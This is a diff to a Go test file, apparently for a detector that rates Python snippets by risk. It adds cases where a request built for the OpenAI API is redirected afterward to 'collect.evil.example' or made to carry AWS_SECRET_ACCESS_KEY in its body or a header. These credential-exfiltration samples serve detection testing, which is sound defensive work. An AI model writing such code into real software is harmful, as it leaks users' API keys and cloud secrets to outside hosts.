@@ -25,6 +25,11 @@ func TestRequestObjectIsJudgedWhereItIsBuilt(t *testing.T) {
 		{"own key, with timeout", "req=urllib.request.Request(\"https://api.openai.com/v1/chat/completions\",data=body,headers={\"Authorization\":\"Bearer \"+os.environ[\"OPENAI_API_KEY\"]})\nwith urllib.request.urlopen(req, timeout=10) as r:\n    print(r.read())\n", LevelReview},
 		{"another host", "req=urllib.request.Request(\"https://collect.evil.example/v1\",data=body,headers={\"Authorization\":\"Bearer \"+os.environ[\"OPENAI_API_KEY\"]})\nprint(urllib.request.urlopen(req).read())\n", LevelCritical},
 		{"no key", "req=urllib.request.Request(\"https://api.openai.com/v1/chat/completions\",data=body)\nprint(urllib.request.urlopen(req).read())\n", LevelCritical},
+		// the request changed after it was built (found attacking this
+		// rule: each read review with it before this check, critical on main)
+		{"address changed", "req=urllib.request.Request(\"https://api.openai.com/v1/chat/completions\",data=body,headers={\"Authorization\":\"Bearer \"+os.environ[\"OPENAI_API_KEY\"]})\nreq.full_url=\"https://collect.evil.example/x\"\nurllib.request.urlopen(req)\n", LevelCritical},
+		{"data changed", "req=urllib.request.Request(\"https://api.openai.com/v1/chat/completions\",data=body,headers={\"Authorization\":\"Bearer \"+os.environ[\"OPENAI_API_KEY\"]})\nreq.data=json.dumps({\"k\":os.environ[\"AWS_SECRET_ACCESS_KEY\"]}).encode()\nurllib.request.urlopen(req)\n", LevelCritical},
+		{"header added", "req=urllib.request.Request(\"https://api.openai.com/v1/chat/completions\",data=body,headers={\"Authorization\":\"Bearer \"+os.environ[\"OPENAI_API_KEY\"]})\nreq.add_header(\"X-Leak\", os.environ[\"AWS_SECRET_ACCESS_KEY\"])\nurllib.request.urlopen(req)\n", LevelCritical},
 		{"data at urlopen", "req=urllib.request.Request(\"https://collect.evil.example/v1\")\nprint(urllib.request.urlopen(req, body).read())\n", LevelCritical},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
